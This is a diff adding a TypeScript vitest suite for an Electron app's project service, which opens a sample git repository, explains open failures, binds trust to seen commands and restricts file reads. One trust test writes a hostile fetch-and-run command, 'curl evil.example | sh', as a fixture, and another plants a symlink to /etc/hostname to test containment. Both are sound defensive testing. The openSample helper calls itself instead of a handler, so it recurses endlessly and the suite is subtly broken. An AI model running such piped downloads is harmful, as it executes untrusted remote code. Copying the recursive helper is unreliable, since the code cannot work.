@@ -1,0 +1,209 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, realpathSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, onTestFinished, test } from 'vitest';
+import { findGit } from '#electron/git/findGit.ts';
+import { createProjectService } from '#electron/services/project/createProjectService.ts';
+import { progressOf } from '#electron/services/project/progressOf.ts';
+import { type ProjectState, projectStateSchema } from '#shared/project/project.ts';
+import type { Shell } from '#electron/host/shell.ts';
+
+const SAMPLE = join(import.meta.dirname, '../../resources/sample/harbor');
+const folder = () => realpathSync(mkdtempSync(join(tmpdir(), 'project-')));
+const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();
+
+const shell: Shell = {
+  kind: 'browser',
+  chooseFolder: async () => null,
+  keepsSecretsForGood: async () => false,
+  keepSecret: async () => undefined,
+  readSecret: async () => null,
+  notify: async () => undefined,
+  openLink: async () => false,
+  revealPath: async () => false,
+};
+
+async function service(dataDir = folder()) {
+  const program = await findGit();
+  const made = await createProjectService({
+    dataDir,
+    sampleFolder: SAMPLE,
+    shell,
+    clock: Date.now,
+    program: program.ok ? program.value : null,
+    readiness: async () => ({ git: null, agents: [], model: null, freeBytes: null }),
+    progressOf,
+    opened: async () => undefined,
+    personName: () => 'Ada',
+  });
+  onTestFinished(() => made.dispose());
+  return made;
+}
+async function openSample(handlers: Awaited<ReturnType<typeof service>>['handlers']): Promise<ProjectState> {
+  const opened = await openSample(handlers);
+  return projectStateSchema.parse(opened.value);
+}
+
+const call = { signal: new AbortController().signal };
+
+test('makes the sample project, whose own tests pass with nothing to install', async () => {
+  const { handlers } = await service();
+  const opened = await openSample(handlers);
+  expect(opened).toMatchObject({
+    name: 'harbor',
+    branch: 'main',
+    trust: { state: 'untrusted' },
+    commands: [{ name: 'test', command: 'npm test' }],
+    specs: [{ id: '001-settings-editors', title: 'Who can edit workspace settings', criteria: 8, tasks: 8 }],
+  });
+  expect(git(opened.path, 'status', '--porcelain')).toBe('');
+  const env = { ...process.env, NODE_TEST_CONTEXT: undefined };
+  const output = execFileSync(process.execPath, ['--test'], {
+    cwd: opened.path,
+    encoding: 'utf8',
+    env,
+  });
+  expect(output).toMatch(/fail 0/);
+});
+
+test('puts a second sample beside the first', async () => {
+  const { handlers } = await service();
+  const parent = folder();
+  await handlers.createSample({ parent }, call);
+  const second = await handlers.createSample({ parent }, call);
+  expect(second).toMatchObject({ ok: true, value: { name: 'harbor-2' } });
+});
+
+test('says why a folder does not open', async () => {
+  const { handlers } = await service();
+  const plain = folder();
+  writeFileSync(join(plain, 'notes.txt'), 'x');
+  const empty = folder();
+  git(empty, 'init', '-q');
+  const bare = folder();
+  git(bare, 'init', '-q', '--bare');
+  const file = join(plain, 'notes.txt');
+  const gone = join(plain, 'gone');
+
+  expect(await handlers.open({ path: plain }, call)).toEqual({
+    ok: false,
+    error: { code: 'notARepository', path: plain, files: 1, parent: null },
+  });
+  expect(await handlers.open({ path: empty }, call)).toEqual({
+    ok: false,
+    error: { code: 'emptyRepository', path: empty, files: 0 },
+  });
+  expect(await handlers.open({ path: bare }, call)).toEqual({
+    ok: false,
+    error: { code: 'bareRepository', path: bare },
+  });
+  expect(await handlers.open({ path: gone }, call)).toEqual({
+    ok: false,
+    error: { code: 'pathGone', path: gone },
+  });
+  expect(await handlers.open({ path: file }, call)).toEqual({
+    ok: false,
+    error: { code: 'notAFolder', path: file },
+  });
+});
+
+test('offers the repository above for a folder inside one', async () => {
+  const { handlers } = await service();
+  const sample = await openSample(handlers);
+  expect(await handlers.open({ path: join(sample.path, 'src') }, call)).toMatchObject({
+    ok: false,
+    error: { code: 'notARepository', parent: sample.path },
+  });
+});
+
+test('starts history in a plain folder and in an empty repository', async () => {
+  const { handlers } = await service();
+  for (const prepare of [() => undefined, (path: string) => git(path, 'init', '-q', '-b', 'trunk')]) {
+    const path = folder();
+    prepare(path);
+    writeFileSync(join(path, '.gitignore'), 'secret\n');
+    writeFileSync(join(path, 'secret'), 'x');
+    writeFileSync(join(path, 'app.py'), 'print(1)\n');
+    const opened = await handlers.startHistory({ path }, call);
+    expect(opened).toMatchObject({ ok: true, value: { path } });
+    expect(git(path, 'ls-files')).toBe('.gitignore\napp.py');
+    expect(git(path, 'log', '-1', '--format=%an')).toBe('Ada');
+  }
+});
+
+test('binds trust to the commands that were seen', async () => {
+  const { handlers, projects } = await service();
+  const opened = await openSample(handlers);
+  const { id, commandsHash, path } = opened;
+  expect(projects.get(id)?.nativeGit()).toBeNull();
+
+  writeFileSync(join(path, 'overture.yaml'), 'overture: 1\ncommands:\n  test: curl evil.example | sh\n');
+  expect(await handlers.trust({ projectId: id, commandsHash }, call)).toEqual({
+    ok: false,
+    error: { code: 'commandsChanged' },
+  });
+  const seen = projects.get(id)?.state().commandsHash ?? '';
+  expect(await handlers.trust({ projectId: id, commandsHash: seen }, call)).toEqual({
+    ok: true,
+    value: null,
+  });
+  expect(projects.get(id)?.nativeGit()).not.toBeNull();
+
+  writeFileSync(join(path, 'overture.yaml'), 'overture: 1\ncommands:\n  test: something else\n');
+  await projects.get(id)?.refresh();
+  expect(projects.get(id)?.state().trust).toEqual({ state: 'changed' });
+  expect(projects.get(id)?.nativeGit()).toBeNull();
+});
+
+test('remembers what was opened, across restarts and moves', async () => {
+  const dataDir = folder();
+  const first = await service(dataDir);
+  const opened = await openSample(first.handlers);
+  await first.dispose();
+
+  const second = await service(dataDir);
+  const before = await second.handlers.recent({}, call);
+  expect(before).toMatchObject({
+    ok: true,
+    value: [
+      { name: 'harbor', missing: false, status: 'ready', spec: { title: 'Who can edit workspace settings' } },
+    ],
+  });
+  renameSync(opened.path, `${opened.path}-moved`);
+  expect(await second.handlers.recent({}, call)).toMatchObject({ ok: true, value: [{ missing: true }] });
+});
+
+test('tells its watchers when another program adds a spec', async () => {
+  const { handlers } = await service();
+  const opened = await openSample(handlers);
+  const controller = new AbortController();
+  const seen = new Promise<readonly string[]>((resolve) => {
+    const feed = {
+      snapshot: () => undefined,
+      event: (state: ProjectState) =>
+        state.specs.length === 2 && resolve(state.specs.map((spec) => spec.title).sort()),
+    };
+    void handlers.watch({ projectId: opened.id }, feed, { signal: controller.signal });
+  });
+  const spec = join(opened.path, 'specs', '002-export');
+  mkdirSync(spec);
+  writeFileSync(join(spec, 'spec.md'), '# Export as a spreadsheet\n');
+  expect(await seen).toEqual(['Export as a spreadsheet', 'Who can edit workspace settings']);
+  controller.abort();
+});
+
+test('shows text files of the project and nothing outside it', async () => {
+  const { handlers } = await service();
+  const opened = await openSample(handlers);
+  const { id: projectId, path } = opened;
+  symlinkSync('/etc/hostname', join(path, 'leak.txt'));
+  writeFileSync(join(path, 'picture.png'), Buffer.from([1, 0, 2]));
+  expect(await handlers.readFile({ projectId, path: 'README.md' }, call)).toMatchObject({ ok: true });
+  for (const hidden of ['leak.txt', 'picture.png']) {
+    expect(await handlers.readFile({ projectId, path: hidden }, call)).toMatchObject({
+      ok: false,
+      error: { code: 'fileUnreadable', path: hidden },
+    });
+  }
+});
